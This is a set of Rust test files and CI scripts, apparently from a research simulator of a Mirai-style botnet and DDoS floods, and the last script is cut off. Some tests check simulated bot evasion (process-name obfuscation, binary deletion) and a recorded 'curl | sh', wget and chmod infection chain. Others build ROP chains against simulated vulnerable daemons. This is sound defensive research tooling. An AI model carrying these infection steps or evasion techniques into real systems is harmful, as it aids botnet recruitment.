    /// Faults scheduled exactly on bucket boundaries (the calendar queue's
    /// rotation edges) complete with a time-monotone event stream and stay
    /// deterministic.
    #[test]
    fn bucket_boundary_fault_times_keep_order(plan_seed in any::<u64>()) {
        let doc = recorder_doc(random_plan(plan_seed, true));
        let again = recorder_doc(random_plan(plan_seed, true));
        prop_assert_eq!(doc.to_string_compact(), again.to_string_compact());
        let events = doc.get("events").and_then(|e| e.as_array()).expect("events");
        let mut prev = 0;
        for e in events {
            let t = e.get("t").and_then(djson::Json::as_u64).expect("time");
            prop_assert!(t >= prev, "recorder events out of order at t={t}");
            prev = t;
        }
    }
}

/// The fault RNG is a stream of its own, so the flood send schedule is
/// identical across loss probabilities and the per-frame loss draws
/// couple: every frame lost at p also falls at any p' ≥ p. Received flood
/// bytes therefore cannot increase as the access links get lossier.
#[test]
fn rising_link_loss_monotonically_degrades_the_flood() {
    let received: Vec<u64> = [0.0, 0.4, 0.8]
        .iter()
        .map(|&p| {
            let plan = FaultPlan {
                seed: 0,
                // Applied at 14 s: after the attack command is delivered,
                // so every bot floods in every scenario and only the UDP
                // flood itself is thinned.
                faults: (0..3)
                    .map(|i| FaultEvent {
                        at: Duration::from_secs(14),
                        kind: FaultKind::LinkLoss {
                            node: format!("dev-{i}"),
                            probability: p,
                        },
                    })
                    .collect(),
            };
            scenario().faults(plan).run().expect("valid").flood_bytes_received
        })
        .collect();
    assert!(
        received[0] >= received[1] && received[1] >= received[2],
        "flood bytes rose with loss probability: {received:?}"
    );
    assert!(
        received[0] > received[2],
        "80% loss must measurably thin the flood: {received:?}"
    );
}
