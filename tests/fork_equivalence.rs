//! Fork equivalence: an in-memory fork taken at T with fork seed 0 must
//! produce a flight-recorder trace byte-identical to the straight-through
//! run — across every fabric shape and under fault injection. Distinct
//! fork seeds must share the 0→T prefix and diverge after it, equal seeds
//! must be byte-identical to each other, and checkpointing a fork must
//! yield the very checkpoint the straight-through run saves.

use ddosim::{AttackSpec, SimulationBuilder, SuffixSpec, TelemetryConfig, TopologyKind};
use proptest::prelude::*;
use std::time::Duration;

/// When the world is forked: mid-attack, so the clone carries in-flight
/// floods, live C&C connections, and armed timers.
const FORK_AT: Duration = Duration::from_secs(30);

fn recording() -> TelemetryConfig {
    TelemetryConfig {
        record: true,
        ..TelemetryConfig::default()
    }
}

fn base(seed: u64, topology: TopologyKind) -> SimulationBuilder {
    SimulationBuilder::new()
        .devs(8)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(25))
        .sim_time(Duration::from_secs(45))
        .attack_ramp(Duration::from_secs(3))
        .seed(seed)
        .topology(topology)
        .telemetry(recording())
}

/// The uninterrupted run's full trace.
fn straight_trace(builder: SimulationBuilder) -> String {
    let instance = builder.build().expect("valid configuration");
    let handle = instance.telemetry().clone();
    instance.try_run_to_completion().expect("run succeeds");
    handle.recorder_json().expect("recording").to_string_compact()
}

/// Runs the prefix to `at`, forks with `fork_seed`, runs the fork to the
/// horizon, and returns its full trace (prefix events included — a fork
/// inherits the parent's recorder).
fn forked_trace(builder: SimulationBuilder, at: Duration, fork_seed: u64) -> String {
    let mut parent = builder.build().expect("valid configuration");
    parent.run_prefix(at).expect("prefix runs");
    let fork = parent.fork_with_seed(fork_seed).expect("world forks");
    let handle = fork.telemetry().clone();
    fork.try_run_to_completion().expect("fork runs");
    handle.recorder_json().expect("recording").to_string_compact()
}

/// One compact string per recorded event, for prefix comparisons.
fn events(trace: &str) -> Vec<String> {
    let doc = djson::Json::parse(trace).expect("trace parses");
    doc.get("events")
        .and_then(djson::Json::as_array)
        .expect("events array")
        .iter()
        .map(djson::Json::to_string_compact)
        .collect()
}

fn assert_fork_equals_straight_through(make: impl Fn() -> SimulationBuilder) {
    let straight = straight_trace(make());
    let forked = forked_trace(make(), FORK_AT, 0);
    assert_eq!(
        straight, forked,
        "seed-0 fork trace differs from the straight-through run"
    );
}

#[test]
fn star_fork_is_byte_identical_to_straight_through() {
    assert_fork_equals_straight_through(|| base(42, TopologyKind::Star));
}

#[test]
fn wifi_fork_is_byte_identical_to_straight_through() {
    assert_fork_equals_straight_through(|| base(42, TopologyKind::Wifi));
}

#[test]
fn tiered_fork_is_byte_identical_to_straight_through() {
    assert_fork_equals_straight_through(|| {
        base(
            42,
            TopologyKind::Tiered {
                regions: 3,
                region_uplink_bps: 10_000_000,
            },
        )
    });
}

#[test]
fn fault_plan_fork_is_byte_identical_to_straight_through() {
    let plan = r#"{"schema":"ddosim.faults.plan/1","seed":9,"faults":[
        {"at_secs":10,"kind":"link_down","node":"dev-3"},
        {"at_secs":20,"kind":"link_up","node":"dev-3"},
        {"at_secs":28,"kind":"node_crash","node":"dev-5"},
        {"at_secs":35,"kind":"node_restore","node":"dev-5"}]}"#;
    let plan = ddosim::FaultPlan::parse_str(plan).expect("valid plan");
    assert_fork_equals_straight_through(|| base(42, TopologyKind::Star).faults(plan.clone()));
}

/// The worker-pool path must preserve equivalence too: an identity suffix
/// fanned out through `run_suffixes_traced` returns the straight-through
/// trace, while a reseeded sibling in the same sweep diverges.
#[test]
fn suffix_sweep_identity_trace_is_byte_identical_to_straight_through() {
    let straight = straight_trace(base(42, TopologyKind::Star));
    let mut parent = base(42, TopologyKind::Star).build().expect("valid configuration");
    parent.run_prefix(FORK_AT).expect("prefix runs");
    let mut diverged = SuffixSpec::identity("diverged");
    diverged.fork_seed = 7;
    let rows = ddosim::run_suffixes_traced(
        &parent,
        &[SuffixSpec::identity("baseline"), diverged],
    );
    let trace = |i: usize| {
        rows[i]
            .as_ref()
            .expect("suffix runs")
            .trace
            .as_ref()
            .expect("recording")
            .to_string_compact()
    };
    assert_eq!(straight, trace(0), "identity suffix diverged from the parent's future");
    assert_ne!(straight, trace(1), "reseeded suffix failed to diverge");
}

/// A five-figure world built on the struct-of-arrays arena and flyweight
/// firmware: forking it must reproduce every layer digest exactly
/// (`fork_with_seed` itself re-verifies layer by layer and errors on the
/// first mismatch), and the fork must remain independently runnable.
#[test]
fn ten_thousand_device_fork_is_digest_identical_to_parent() {
    let mut parent = SimulationBuilder::new()
        .devs(10_000)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(40))
        .sim_time(Duration::from_secs(60))
        .seed(1234)
        .build()
        .expect("valid configuration");
    parent.run_prefix(Duration::from_secs(1)).expect("prefix runs");
    let fork = parent.fork_with_seed(0).expect("world forks");
    assert_eq!(
        parent.state_digests(),
        fork.state_digests(),
        "10k-device fork diverged from its parent"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// Pausing a world at an arbitrary mark — and sampling its digests
    /// there, which must be a pure read — then continuing must land on
    /// exactly the layer digests of an uninterrupted run of the same
    /// world. This pins the struct-of-arrays arena's digest order to the
    /// simulation's observable state, not to construction history.
    #[test]
    fn paused_run_digests_equal_straight_rebuild(
        seed in 0u64..1000,
        mark in 5u64..20,
        end in 21u64..40,
    ) {
        let mut straight = base(seed, TopologyKind::Star).build().expect("valid configuration");
        straight.run_prefix(Duration::from_secs(end)).expect("straight run");

        let mut paused = base(seed, TopologyKind::Star).build().expect("valid configuration");
        paused.run_prefix(Duration::from_secs(mark)).expect("prefix runs");
        let _probe = paused.state_digests();
        paused.run_prefix(Duration::from_secs(end)).expect("suffix runs");

        prop_assert_eq!(
            straight.state_digests(),
            paused.state_digests(),
            "digests at the checkpoint mark depend on how the run got there"
        );
    }

    /// Random fork points and seeds: equal fork seeds are byte-identical
    /// to each other; distinct seeds share the 0→T event prefix exactly
    /// and diverge somewhere after it.
    #[test]
    fn fork_seeds_decorrelate_futures_but_share_the_prefix(
        seed in 0u64..1000,
        t_secs in 26u64..34,
        fork_seed in 1u64..10_000,
    ) {
        let at = Duration::from_secs(t_secs);
        let mut parent = base(seed, TopologyKind::Star).build().expect("valid configuration");
        parent.run_prefix(at).expect("prefix runs");
        let prefix = events(
            &parent
                .telemetry()
                .recorder_json()
                .expect("recording")
                .to_string_compact(),
        );
        prop_assert!(!prefix.is_empty(), "nothing recorded before the fork point");

        let run = |fork_seed: u64| {
            let fork = parent.fork_with_seed(fork_seed).expect("world forks");
            let handle = fork.telemetry().clone();
            fork.try_run_to_completion().expect("fork runs");
            handle.recorder_json().expect("recording").to_string_compact()
        };
        let baseline = run(0);
        let reseeded = run(fork_seed);
        let reseeded_again = run(fork_seed);

        prop_assert_eq!(&reseeded, &reseeded_again, "equal fork seeds must be byte-identical");
        prop_assert!(baseline != reseeded, "distinct fork seeds must diverge after T");
        let baseline_events = events(&baseline);
        let reseeded_events = events(&reseeded);
        prop_assert_eq!(
            &baseline_events[..prefix.len()],
            &prefix[..],
            "seed-0 fork rewrote the shared prefix"
        );
        prop_assert_eq!(
            &reseeded_events[..prefix.len()],
            &prefix[..],
            "reseeded fork rewrote the shared prefix"
        );
    }

    /// Forking at T and checkpointing the fork at T2 > T must save the
    /// very checkpoint the straight-through run saves at T2 — and that
    /// checkpoint must restore (restore re-verifies every state digest,
    /// so this is the fork-digests-equal-checkpoint-digests property).
    #[test]
    fn fork_then_checkpoint_equals_straight_through_checkpoint(
        seed in 0u64..1000,
        t_secs in 26u64..30,
        cp_secs in 31u64..40,
    ) {
        let (at, cp_at) = (Duration::from_secs(t_secs), Duration::from_secs(cp_secs));

        let straight = base(seed, TopologyKind::Star)
            .checkpoint_at(cp_at)
            .build()
            .expect("valid configuration");
        let (_, saved) = straight.try_run_to_completion().expect("run succeeds");
        let straight_cp = saved.expect("checkpoint was armed");

        let mut parent = base(seed, TopologyKind::Star).build().expect("valid configuration");
        parent.run_prefix(at).expect("prefix runs");
        let mut fork = parent.fork().expect("world forks");
        fork.set_checkpoint_at(cp_at);
        let (_, saved) = fork.try_run_to_completion().expect("fork runs");
        let fork_cp = saved.expect("checkpoint was armed");

        prop_assert_eq!(
            straight_cp.to_string_pretty(),
            fork_cp.to_string_pretty(),
            "a fork's checkpoint differs from the straight-through checkpoint"
        );
        let resumed = SimulationBuilder::new()
            .resume_from(fork_cp)
            .build()
            .expect("checkpoint config is valid");
        resumed
            .try_run_to_completion()
            .expect("a fork's checkpoint restores (digests verify)");
    }
}
