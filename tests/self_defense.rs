//! Mirai self-defense behaviours observed inside live simulations: process
//! obfuscation, binary deletion, and the audit trail a researcher can
//! extract from any compromised Dev ("scrutinize compromised devices").

use ddosim::{AttackSpec, SimulationBuilder};
use firmware::ContainerEvent;
use std::time::Duration;

fn infected_instance() -> ddosim::Ddosim {
    let mut instance = SimulationBuilder::new()
        .devs(5)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(40))
        .sim_time(Duration::from_secs(60))
        .seed(3)
        .build()
        .expect("valid configuration");
    instance.run_until(Duration::from_secs(30));
    assert_eq!(instance.infected_count(), 5, "setup: all recruited");
    instance
}

#[test]
fn bot_obfuscates_its_process_name() {
    let instance = infected_instance();
    for dev in instance.devs() {
        let state = dev.container.state();
        let names: Vec<String> = state.procs.iter().map(|p| p.name.clone()).collect();
        assert!(
            !names.iter().any(|n| n.contains("mirai")),
            "bot name must be obfuscated, got {names:?}"
        );
        // The daemon plus the obfuscated bot (10 alphanumerics).
        assert!(
            names.iter().any(|n| n.len() == 10
                && n.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())),
            "an obfuscated process must exist, got {names:?}"
        );
    }
}

#[test]
fn bot_deletes_its_binary_from_disk() {
    let instance = infected_instance();
    for dev in instance.devs() {
        assert!(
            !dev.container.state().fs.exists("/tmp/mirai"),
            "the downloaded binary must be removed"
        );
    }
}

#[test]
fn audit_trail_shows_curl_pipe_sh_chain() {
    let instance = infected_instance();
    let dev = &instance.devs()[0];
    let state = dev.container.state();
    let commands: Vec<&str> = state
        .events
        .iter()
        .filter_map(|e| match e {
            ContainerEvent::CommandRun { command, .. } => Some(command.as_str()),
            _ => None,
        })
        .collect();
    assert!(
        commands.iter().any(|c| c.starts_with("curl -s http://") && c.ends_with("| sh")),
        "stage-1 curl-pipe-sh must be recorded (the paper's §IV-C insight), got {commands:?}"
    );
    assert!(commands.iter().any(|c| c.starts_with("wget ")));
    assert!(commands.iter().any(|c| c.starts_with("chmod +x")));
    let downloaded = state
        .events
        .iter()
        .any(|e| matches!(e, ContainerEvent::Downloaded { bytes, .. } if *bytes > 100_000));
    assert!(downloaded, "the bot binary download must be recorded");
    let executed = state
        .events
        .iter()
        .any(|e| matches!(e, ContainerEvent::Executed { path, .. } if path == "/tmp/mirai"));
    assert!(executed);
}

#[test]
fn infection_times_are_recorded_and_ordered() {
    let instance = infected_instance();
    let times = instance.runtime().infection_times();
    assert_eq!(times.len(), 5);
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "sorted");
    assert!(
        times.last().expect("nonempty").as_secs_f64() < 30.0,
        "recruitment completes during the pre-attack phase"
    );
}

#[test]
fn single_instance_guard_prevents_double_bots() {
    // Run long enough that the attacker's reconciler would re-exploit if a
    // device looked uninfected; the single-instance port bind must keep
    // exactly one bot alive per device.
    let mut instance = SimulationBuilder::new()
        .devs(4)
        .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
        .attack_at(Duration::from_secs(80))
        .sim_time(Duration::from_secs(100))
        .seed(6)
        .build()
        .expect("valid configuration");
    instance.run_until(Duration::from_secs(75));
    for dev in instance.devs() {
        let state = dev.container.state();
        let obfuscated = state
            .procs
            .iter()
            .filter(|p| {
                p.name.len() == 10
                    && p.name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
            })
            .count();
        assert_eq!(obfuscated, 1, "exactly one bot per device");
    }
}
