//! Smoke tests of the experiment-sweep functions themselves (miniature
//! sizes — the `ddosim-bench` binaries run the paper-scale versions).

use ddosim::experiment::{
    ablations, fig2, fig3, infection_matrix, recruitment_comparison, table1,
};
use ddosim::{AttackSpec, Recruitment, SimulationBuilder, TopologyKind};
use std::time::Duration;

#[test]
fn fig2_sweep_produces_one_point_per_cell() {
    let points = fig2(&[2, 4], 1, 77);
    assert_eq!(points.len(), 2 * 3, "dev counts × churn modes");
    for p in &points {
        assert_eq!(p.runs.len(), 1);
        assert!(p.infected > 0.0, "devs={} {}", p.devs, p.churn);
    }
    // More devices, more traffic (within each churn mode).
    let none: Vec<&_> = points.iter().filter(|p| p.churn == churn::ChurnMode::None).collect();
    assert!(none[1].avg_kbps > none[0].avg_kbps);
}

#[test]
fn fig3_sweep_is_grouped_by_round() {
    let points = fig3(&[3], &[150, 300], 1, 78);
    assert_eq!(points.len(), 2);
    assert_eq!(points[0].devs, 3);
    assert_eq!(points[0].duration_secs, 150);
    assert_eq!(points[1].duration_secs, 300);
}

#[test]
fn table1_rows_are_monotone_in_memory() {
    let rows = table1(&[2, 6], 79);
    assert_eq!(rows.len(), 2);
    assert!(rows[1].pre_attack_mem_gb > rows[0].pre_attack_mem_gb);
    assert!(rows[0].attack_mem_gb >= rows[0].pre_attack_mem_gb);
    assert!(!rows[0].attack_time.is_empty());
}

#[test]
fn infection_matrix_covers_all_cells() {
    let points = infection_matrix(3, 80);
    assert_eq!(points.len(), 4 * 3, "protection subsets × strategies");
    // The paper's cell: leak+rebase on the full subset is 100%.
    let headline = points
        .iter()
        .find(|p| {
            p.protections == tinyvm::Protections::FULL
                && p.strategy == ddosim::ExploitStrategy::LeakRebase
        })
        .expect("cell exists");
    assert_eq!(headline.infection_rate, 1.0);
}

#[test]
fn ablations_include_the_curl_and_canary_rows() {
    let rows = ablations(3, 81);
    let labels: Vec<&str> = rows.iter().map(|r| r.label.as_str()).collect();
    assert!(labels.iter().any(|l| l.contains("removes curl")));
    assert!(labels.iter().any(|l| l.contains("canaries")));
    assert!(labels.iter().any(|l| l.contains("tiered")));
    let no_curl = rows.iter().find(|r| r.label.contains("removes curl")).expect("row");
    assert_eq!(no_curl.infection_rate, 0.0);
}

#[test]
fn recruitment_comparison_orders_by_prevalence() {
    let rows = recruitment_comparison(6, 82);
    assert_eq!(rows[0].infection_rate, 1.0, "memory error recruits all");
    // Scanner rows are <= 100% (Bernoulli draws make exact values noisy).
    for r in &rows[1..] {
        assert!(r.infection_rate <= 1.0);
    }
}

#[test]
fn kitchen_sink_every_feature_at_once() {
    // Worm recruitment + dynamic churn + reboots + tiered topology +
    // an early-stopped SYN flood over IPv6: nothing panics, the books
    // balance, and the botnet still forms.
    let r = SimulationBuilder::new()
        .devs(15)
        .recruitment(Recruitment::SelfPropagating {
            default_credential_fraction: 1.0,
            seeds: 2,
        })
        .churn(churn::ChurnMode::Dynamic)
        .reboot_rate_per_min(0.5)
        .topology(TopologyKind::Tiered {
            regions: 3,
            region_uplink_bps: 8_000_000,
        })
        .attack_over_ipv6(true)
        .attack(AttackSpec {
            vector: protocols::AttackVector::Syn,
            duration: Duration::from_secs(30),
            payload_bytes: None,
            port: 80,
        })
        .admin_command(Duration::from_secs(110), "stop")
        .attack_at(Duration::from_secs(90))
        .sim_time(Duration::from_secs(150))
        .seed(83)
        .run()
        .expect("valid configuration");
    assert!(r.infected >= 12, "the worm spreads despite churn/reboots: {}", r.infected);
    assert_eq!(
        r.packets_sent,
        r.packets_delivered + r.packets_dropped,
        "conservation holds under every feature"
    );
    assert!(r.avg_received_data_rate_kbps > 0.0, "SYN segments reach TServer over IPv6");
}
