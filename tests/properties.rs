//! Property-based tests of core invariants (proptest).

use churn::FanChurnModel;
use ddosim::report::Table;
use netsim::node::prefix_contains;
use netsim::SimTime;
use proptest::prelude::*;
use rand::rngs::SmallRng;
use rand::SeedableRng;
use std::sync::Arc;
use std::time::Duration;
use tinyvm::{catalog, Arch, DeliveryOutcome, Protections, RopChainBuilder, VulnProcess};

proptest! {
    /// Random network garbage never grants code execution — only chains
    /// that resolve real gadget addresses do. (The probability of randomly
    /// hitting a valid slid gadget address or the live stack window is
    /// negligible; `Exec` on random input would mean the exploit model
    /// leaks capability.)
    #[test]
    fn random_input_never_execs(input in proptest::collection::vec(any::<u8>(), 0..2048), seed in any::<u64>()) {
        let image = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        let mut p = VulnProcess::start(image, Protections::FULL, &mut rng);
        let outcome = p.deliver_input(&input);
        prop_assert!(!outcome.is_exec(), "random input execed: {outcome:?}");
    }

    /// The patched image is invulnerable to *any* input.
    #[test]
    fn patched_image_never_hijacked(input in proptest::collection::vec(any::<u8>(), 0..4096), seed in any::<u64>()) {
        let image = Arc::new(catalog::patched_connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        let mut p = VulnProcess::start(image, Protections::NONE, &mut rng);
        let outcome = p.deliver_input(&input);
        prop_assert!(
            matches!(outcome, DeliveryOutcome::Handled),
            "patched daemon must treat any input as data, got {outcome:?}"
        );
    }

    /// The builder's chain always works when built with the process's true
    /// slide — the attacker's knowledge assumption of the paper.
    #[test]
    fn correctly_rebased_chain_always_execs(seed in any::<u64>(), wx in any::<bool>(), aslr in any::<bool>()) {
        let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        let protections = Protections { wx, aslr, canary: false };
        let mut p = VulnProcess::start(Arc::clone(&image), protections, &mut rng);
        let chain = RopChainBuilder::new(&image, p.slide()).execlp("x").expect("gadgets exist");
        prop_assert!(p.deliver_input(&chain.encode()).is_exec());
    }

    /// Chain encoding length is consistent with its parts.
    #[test]
    fn chain_encoding_length(slide in 0u64..0x100000, cmd in "[a-z ./:|-]{1,64}") {
        let image = catalog::connman_image(Arch::X86_64);
        if let Ok(chain) = RopChainBuilder::new(&image, slide & !0xFFF).execlp(&cmd) {
            let bytes = chain.encode();
            prop_assert_eq!(bytes.len(), chain.encoded_len());
            prop_assert_eq!(bytes.len(), chain.ra_offset + chain.words.len() * 8 + chain.trailing.len());
        }
    }

    /// Eq. 1's leaving probability is always a probability, for any valid
    /// conditions.
    #[test]
    fn leaving_probability_in_unit_interval(q in 0.0f64..=1.0, e in 0.0f64..=1.0) {
        let p = FanChurnModel::PAPER.probability_from_conditions(q, e);
        prop_assert!((0.0..=1.0).contains(&p));
        // With the paper's coefficients it is in fact bounded by phi1·0.4.
        prop_assert!(p <= 0.16 * 0.4 + 1e-12);
    }

    /// Leaving factor is monotone: better link quality or energy never
    /// increases it.
    #[test]
    fn leaving_factor_monotone(q in 0.0f64..=1.0, e in 0.0f64..=1.0, dq in 0.0f64..=0.2) {
        let base = FanChurnModel::leaving_factor(q, e);
        let better_q = FanChurnModel::leaving_factor((q + dq).min(1.0), e);
        let better_e = FanChurnModel::leaving_factor(q, (e + dq).min(1.0));
        prop_assert!(better_q <= base + 1e-12);
        prop_assert!(better_e <= base + 1e-12);
    }

    /// SimTime arithmetic is consistent: (t + d) - t == d.
    #[test]
    fn simtime_addition_roundtrips(t in 0u64..u64::MAX / 4, d in 0u64..u64::MAX / 4) {
        let base = SimTime::from_nanos(t);
        let dur = Duration::from_nanos(d);
        prop_assert_eq!((base + dur) - base, dur);
    }

    /// A /32 (or /128) prefix contains exactly its own address.
    #[test]
    fn host_prefix_is_exact(a in any::<u32>(), b in any::<u32>()) {
        let ip_a = std::net::IpAddr::V4(std::net::Ipv4Addr::from(a));
        let ip_b = std::net::IpAddr::V4(std::net::Ipv4Addr::from(b));
        prop_assert!(prefix_contains(ip_a, 32, ip_a));
        prop_assert_eq!(prefix_contains(ip_a, 32, ip_b), a == b);
    }

    /// Shorter prefixes contain everything longer ones do.
    #[test]
    fn prefix_containment_is_monotone(base in any::<u32>(), addr in any::<u32>(), len in 1u8..=32) {
        let p = std::net::IpAddr::V4(std::net::Ipv4Addr::from(base));
        let a = std::net::IpAddr::V4(std::net::Ipv4Addr::from(addr));
        if prefix_contains(p, len, a) {
            prop_assert!(prefix_contains(p, len - 1, a));
        }
    }

    /// CSV rendering always emits one line per row plus the header.
    #[test]
    fn csv_line_count(rows in proptest::collection::vec(proptest::collection::vec("[a-z,\"]{0,8}", 2..=2), 0..20)) {
        let mut t = Table::new("p", &["a", "b"]);
        let n = rows.len();
        for r in rows {
            t.push_row(r);
        }
        let csv = t.to_csv();
        prop_assert_eq!(csv.lines().count(), n + 1);
    }

    /// tx_delay is additive in bytes: delay(a) + delay(b) == delay(a + b)
    /// (up to 1 ns rounding per term).
    #[test]
    fn tx_delay_additive(a in 0u64..1_000_000, b in 0u64..1_000_000, rate in 1_000u64..1_000_000_000) {
        let d_ab = netsim::time::tx_delay(a + b, rate);
        let d_sum = netsim::time::tx_delay(a, rate) + netsim::time::tx_delay(b, rate);
        let diff = d_ab.abs_diff(d_sum);
        prop_assert!(diff <= Duration::from_nanos(2), "diff {diff:?}");
    }
}
