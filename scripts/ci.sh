#!/usr/bin/env sh
# Tier-1 gate: build (including examples), full test suite, a smoke run of
# the performance snapshot gated against the committed baseline, and a
# telemetry determinism self-check (same seed twice -> `trace diff` finds
# zero divergence).
#
# The workspace resolves entirely from in-tree path dependencies (see
# "Offline builds" in README.md), so this runs without network access.
set -eu

cd "$(dirname "$0")/.."

cargo build --release --offline
cargo build --examples --offline
cargo test -q --offline

# Hot-path hashing gate: the forwarding fast path (addr index, route
# tables, TCP demux) must stay on the deterministic FastMap wrappers; a
# bare std HashMap would quietly reintroduce per-process RandomState.
for hot in crates/netsim/src/sim.rs crates/netsim/src/node.rs crates/netsim/src/tcp.rs; do
    if grep -n 'HashMap' "$hot"; then
        echo "error: $hot mentions HashMap; hot paths use netsim::fastmap::FastMap" >&2
        exit 1
    fi
done

# Performance regression gate: a fresh smoke snapshot must stay within 25%
# of the committed baseline on every throughput gauge.
fresh_snap=$(mktemp)
trap 'rm -f "$fresh_snap"' EXIT
cargo run --release --offline -p ddosim-bench --bin perfsnap -- --smoke --out "$fresh_snap"
cargo run --release --offline -p ddosim-bench --bin perfsnap -- \
    --compare-only results/BENCH_netsim.json "$fresh_snap"

# Telemetry determinism self-check: identical seeds must produce
# byte-identical flight-recorder traces, and `trace diff` must agree.
trace_a=$(mktemp) trace_b=$(mktemp) plan=$(mktemp)
trap 'rm -f "$fresh_snap" "$trace_a" "$trace_b" "$plan"' EXIT
run_traced() {
    out=$1; shift
    cargo run --release --offline -p ddosim --bin ddosim -- \
        --devs 6 --attack-at 20 --duration 15 --sim-time 45 --seed 7 \
        --record "$out" "$@" > /dev/null
}
run_traced "$trace_a"
run_traced "$trace_b"
cargo run --release --offline -p ddosim --bin ddosim -- trace diff "$trace_a" "$trace_b"

# The same determinism must hold across a multi-hop routed topology, which
# exercises the forwarding fast path (route cache + sorted LPM tables) on
# every forwarded packet.
run_traced "$trace_a" --topology tiered:3:10000000
run_traced "$trace_b" --topology tiered:3:10000000
cargo run --release --offline -p ddosim --bin ddosim -- trace diff "$trace_a" "$trace_b"

# Fault-plan smoke: a C&C outage mid-run must land in the flight recorder
# (start and end), and the bots must re-register with the restarted C&C
# (strictly more cnc_register events than the 6 initial recruitments).
cat > "$plan" <<'PLAN'
{
  "schema": "ddosim.faults.plan/1",
  "seed": 0,
  "faults": [
    { "at_secs": 40.0, "kind": "cnc_outage", "duration_secs": 20.0 }
  ]
}
PLAN
run_faulted() {
    out=$1; shift
    cargo run --release --offline -p ddosim --bin ddosim -- \
        --devs 6 --attack-at 20 --duration 15 --sim-time 110 --seed 7 \
        --faults "$plan" --record "$out" "$@" > /dev/null
}
run_faulted "$trace_a"
# The compact recorder document is one line, so count matches, not lines.
[ "$(grep -o '"cat":"fault"' "$trace_a" | wc -l)" -ge 2 ]
[ "$(grep -o '"cat":"cnc_register"' "$trace_a" | wc -l)" -gt 6 ]

# Determinism holds under faults: same seed + same plan -> identical trace.
run_faulted "$trace_b"
cargo run --release --offline -p ddosim --bin ddosim -- trace diff "$trace_a" "$trace_b"

# A zero-fault plan is a strict no-op: its trace matches a run that never
# passed --faults at all.
printf '{ "schema": "ddosim.faults.plan/1", "faults": [] }\n' > "$plan"
run_traced "$trace_a"
run_traced "$trace_b" --faults "$plan"
cargo run --release --offline -p ddosim --bin ddosim -- trace diff "$trace_a" "$trace_b"
