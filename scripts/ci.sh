#!/usr/bin/env sh
# Tier-1 gate, split into named stages:
#
#   build        release + example builds under -D warnings, hot-path
#                hashing gate (no bare HashMap on forwarding paths)
#   test         full workspace test suite
#   perf         perfsnap smoke run gated +/-25% against the committed
#                baseline (results/BENCH_netsim.json), checkpoint gauge
#                included
#   determinism  same seed -> byte-identical traces (star, multi-hop
#                tiered, fault plan, zero-fault no-op); seed sweeps:
#                streamed NDJSON rows == batch rows byte for byte, and
#                a repeated sweep reproduces itself
#   checkpoint   resume == straight-through: snapshot mid-attack, resume,
#                and diff the resumed trace against the original's suffix
#                (trace suffix + trace diff), plain and under a fault plan;
#                fork == straight-through: run a scenario tree forked
#                mid-attack and diff the identity branch's full trace
#                against the uninterrupted run (a reseeded sibling must
#                diverge)
#   serve        serve == offline: start `ddosim serve` on an ephemeral
#                port, submit checked-in plans (plain and defended), and
#                byte-compare each streamed-and-reassembled recorder
#                trace against the same seed+plan run offline with
#                --record (trace diff + cmp); malformed submissions must
#                exit non-zero without taking the server down, and a
#                protocol shutdown must drain to a clean exit
#
#   usage: scripts/ci.sh [stage ...]    (no args = all stages, in order)
#
# When CI_ARTIFACT_DIR is set, the perf stage's compare output and the
# final stage-timing table are also written there for upload as workflow
# artifacts.
#
# The workspace resolves entirely from in-tree path dependencies (see
# "Offline builds" in README.md), so this runs without network access.
set -eu

cd "$(dirname "$0")/.."

# Warnings are errors throughout the gate (callers may override).
export RUSTFLAGS="${RUSTFLAGS:--D warnings}"

# One scratch directory for every stage's temp files, cleaned by a single
# EXIT trap. (Earlier revisions re-armed `trap ... EXIT` per temp file,
# so only the most recent list was ever cleaned up.)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

DDOSIM="cargo run --release --offline -p ddosim --bin ddosim --"
PERFSNAP="cargo run --release --offline -p ddosim-bench --bin perfsnap --"
FRONTIER="cargo run --release --offline -p ddosim-bench --bin frontier --"

# Small deterministic scenario shared by the determinism and checkpoint
# stages; extra flags append.
run_traced() {
    out=$1; shift
    $DDOSIM \
        --devs 6 --attack-at 20 --duration 15 --sim-time 45 --seed 7 \
        --record "$out" "$@" > /dev/null
}

stage_build() {
    cargo build --release --offline
    cargo build --examples --offline

    # Hot-path hashing gate: the forwarding fast path (addr index, route
    # tables, TCP demux) must stay on the deterministic FastMap wrappers; a
    # bare std HashMap would quietly reintroduce per-process RandomState.
    # Node names are likewise interned (NameId) so the arena stays
    # struct-of-arrays; a `name: String` field would silently reintroduce a
    # heap allocation per node and blow the 2 KiB/device memory budget.
    for hot in crates/netsim/src/sim.rs crates/netsim/src/node.rs crates/netsim/src/tcp.rs; do
        if grep -n 'HashMap' "$hot"; then
            echo "error: $hot mentions HashMap; hot paths use netsim::fastmap::FastMap" >&2
            exit 1
        fi
        if grep -nE 'names?: *(Vec<)?String' "$hot"; then
            echo "error: $hot holds owned String node names; intern them via netsim::NameInterner (NameId)" >&2
            exit 1
        fi
    done
}

stage_test() {
    cargo test -q --offline
}

stage_perf() {
    # Performance regression gate: a fresh smoke snapshot must stay within
    # 25% of the committed baseline on every throughput gauge (event queue,
    # link saturation, whole-sim, large topology, checkpoint snapshots,
    # fork branches). The compare output lands in CI_ARTIFACT_DIR (when
    # set) so the workflow can upload it.
    $PERFSNAP --smoke --out "$work/fresh-snap.json"
    compare_log=${CI_ARTIFACT_DIR:+$CI_ARTIFACT_DIR/perf-compare.txt}
    compare_log=${compare_log:-$work/perf-compare.txt}
    mkdir -p "$(dirname "$compare_log")"
    compare_status=0
    $PERFSNAP --compare-only results/BENCH_netsim.json "$work/fresh-snap.json" \
        > "$compare_log" 2>&1 || compare_status=$?
    cat "$compare_log"
    return "$compare_status"
}

stage_determinism() {
